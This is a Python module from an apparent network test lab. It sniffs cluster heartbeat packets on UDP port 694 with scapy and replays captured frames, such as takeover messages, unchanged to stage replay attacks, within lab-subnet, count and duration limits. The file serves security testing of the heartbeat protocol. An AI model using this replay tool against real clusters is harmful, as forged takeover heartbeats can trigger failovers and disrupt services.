"""Capture heartbeat packets on a node's interface, and send chosen ones again later (replay attacks).

    python -m lab.node.replay capture --iface eth0 --pcap cap.pcap --out capture.jsonl --duration 60
    python -m lab.node.replay send --iface eth0 --pcap cap.pcap --out replay.jsonl --allow 192.168.77.0/24 \\
        --type hb_takeover --src bobek --which last --count 50 --every-ms 20

`capture` sniffs UDP port 694 with scapy (AsyncSniffer; a Python filter, so no libpcap/tcpdump is needed)
into a pcap, flushed per packet so `send` can read it while capture still runs, and writes one JSON line
per packet (type, src, generation, seq: lab/node/heartbeat.py). Bounded: at most --duration seconds
(<= 600) and --max-packets packets, then it exits by itself.

`send` picks the captured packets matching --type/--src (`--which last`: the newest one; `all`: each in
turn) and re-sends the captured Ethernet frames unchanged with sendp: the same source MAC and IP, the
same signature, the same bytes, as a host on that LAN replaying what it saw. Bounded: at most --count
frames (<= 1000) within --duration seconds, and only frames whose destination IP lies in an --allow
network (the topology's subnets).

Records: capture.ready (the sniffer is running), capture.packet, capture.end; replay.start, replay.end.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import signal
import sys
import threading
import time
from collections.abc import Sequence
from pathlib import Path
from typing import IO, Any

from scapy.layers.inet import IP, UDP
from scapy.packet import Packet
from scapy.sendrecv import AsyncSniffer, sendp
from scapy.utils import PcapWriter, rdpcap

from lab.node.heartbeat import HEARTBEAT_PORT, Heartbeat

MAX_CAPTURE_S = 600.0
MAX_COUNT = 1000


def _write(out: IO[str], record: dict[str, Any]) -> None:
    out.write(json.dumps({"mono": time.monotonic(), **record}) + "\n")
    out.flush()


def is_heartbeat(pkt: Packet) -> bool:
    return UDP in pkt and HEARTBEAT_PORT in (pkt[UDP].sport, pkt[UDP].dport) and Heartbeat in pkt


def capture(args: argparse.Namespace) -> int:
    done = threading.Event()
    signal.signal(signal.SIGTERM, lambda _s, _f: done.set())
    writer = PcapWriter(str(args.pcap), append=False, sync=True)
    count = 0
    with open(args.out, "a", encoding="utf-8") as out:

        def keep(pkt: Packet) -> None:
            nonlocal count
            if count >= args.max_packets:
                done.set()
                return
            writer.write(pkt)
            count += 1
            hb = pkt[Heartbeat]
            _write(out, {"event": "capture.packet", "i": count, "ip_src": pkt[IP].src, **hb.summary_dict()})

        sniffer = AsyncSniffer(
            iface=args.iface,
            store=False,
            lfilter=is_heartbeat,
            prn=keep,
            started_callback=lambda: _write(out, {"event": "capture.ready", "iface": args.iface}),
        )
        sniffer.start()
        deadline = time.monotonic() + args.duration
        while not done.wait(0.2) and time.monotonic() < deadline:
            if not sniffer.running:  # its socket died: say so instead of capturing nothing quietly
                _write(out, {"event": "capture.failed", "packets": count})
                return 1
        sniffer.stop()
        writer.close()
        _write(out, {"event": "capture.end", "packets": count})
    return 0


def select(frames: Sequence[Packet], msg_type: str | None, src: str | None, which: str) -> list[Packet]:
    """The captured heartbeat frames of that type and source, oldest first (`last`: only the newest)."""
    chosen = [
        f
        for f in frames
        if is_heartbeat(f)
        and (msg_type is None or f[Heartbeat].msg_type == msg_type)
        and (src is None or f[Heartbeat].src == src)
    ]
    return chosen[-1:] if which == "last" else chosen


def resendable(frame: Packet) -> Packet:
    """The frame with its IP and UDP checksums computed again, everything else unchanged.

    A veth passes a frame on with the checksum left for "the NIC" to fill in (checksum offload), so the
    captured UDP checksum is a partial sum: sent again as is, the receiver's kernel drops the datagram
    before hbd sees it. A real replay on a wire carries the sender's correct checksum, and so does this."""
    copy = frame.copy()
    del copy[IP].chksum
    del copy[UDP].chksum
    return copy.__class__(bytes(copy))


def send(args: argparse.Namespace) -> int:
    nets = [ipaddress.ip_network(a, strict=False) for a in args.allow]
    frames = [resendable(f) for f in select(rdpcap(str(args.pcap)), args.type, args.src, args.which)]
    with open(args.out, "a", encoding="utf-8") as out:
        if not frames:
            _write(out, {"event": "replay.none", "type": args.type, "src": args.src})
            print(
                f"replay: no captured {args.type or 'heartbeat'} from {args.src or 'anyone'}", file=sys.stderr
            )
            return 1
        for f in frames:
            if not any(ipaddress.ip_address(f[IP].dst) in net for net in nets):
                _write(out, {"event": "replay.refused", "dst": f[IP].dst})
                print(f"replay: refused: {f[IP].dst} is outside the lab networks", file=sys.stderr)
                return 2
        stop = threading.Event()
        signal.signal(signal.SIGTERM, lambda _s, _f: stop.set())
        start = time.monotonic()
        sent = 0
        while sent < args.count and time.monotonic() - start < args.duration and not stop.is_set():
            frame = frames[sent % len(frames)]
            sendp(frame, iface=args.iface, verbose=False)
            sent += 1
            if sent == 1:
                _write(
                    out, {"event": "replay.start", "frames": len(frames), **frame[Heartbeat].summary_dict()}
                )
            stop.wait(args.every_ms / 1000)
        _write(out, {"event": "replay.end", "sent": sent, "started_mono": start})
    return 0


def parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="python -m lab.node.replay", description=__doc__.split("\n")[0])
    sub = parser.add_subparsers(dest="command", required=True)
    cap = sub.add_parser("capture", help="sniff heartbeats into a pcap")
    snd = sub.add_parser("send", help="send captured heartbeats again")
    for p in (cap, snd):
        p.add_argument("--iface", required=True)
        p.add_argument("--pcap", required=True, type=Path)
        p.add_argument("--out", required=True, help="JSON lines of what happened")
    cap.add_argument("--duration", type=float, default=60.0, help="seconds, at most")
    cap.add_argument("--max-packets", type=int, default=5000)
    snd.add_argument("--allow", action="append", default=[], help="a lab network (CIDR); repeat")
    snd.add_argument("--type", default=None, help="only packets of this t= (e.g. hb_takeover)")
    snd.add_argument("--src", default=None, help="only packets from this node")
    snd.add_argument("--which", choices=("last", "all"), default="last")
    snd.add_argument("--count", type=int, default=1, help="frames to send in all")
    snd.add_argument("--every-ms", type=float, default=20.0)
    snd.add_argument("--duration", type=float, default=5.0, help="seconds, at most")
    args = parser.parse_args(argv)
    if args.command == "capture" and not 0 < args.duration <= MAX_CAPTURE_S:
        parser.error(f"--duration must be in (0, {MAX_CAPTURE_S:g}]")
    if args.command == "send":
        if not 0 < args.count <= MAX_COUNT:
            parser.error(f"--count must be in [1, {MAX_COUNT}]")
        if not 0 < args.duration <= MAX_CAPTURE_S:
            parser.error(f"--duration must be in (0, {MAX_CAPTURE_S:g}]")
    return args


def main(argv: Sequence[str] | None = None) -> int:
    args = parse_args(argv)
    return capture(args) if args.command == "capture" else send(args)


if __name__ == "__main__":
    sys.exit(main())
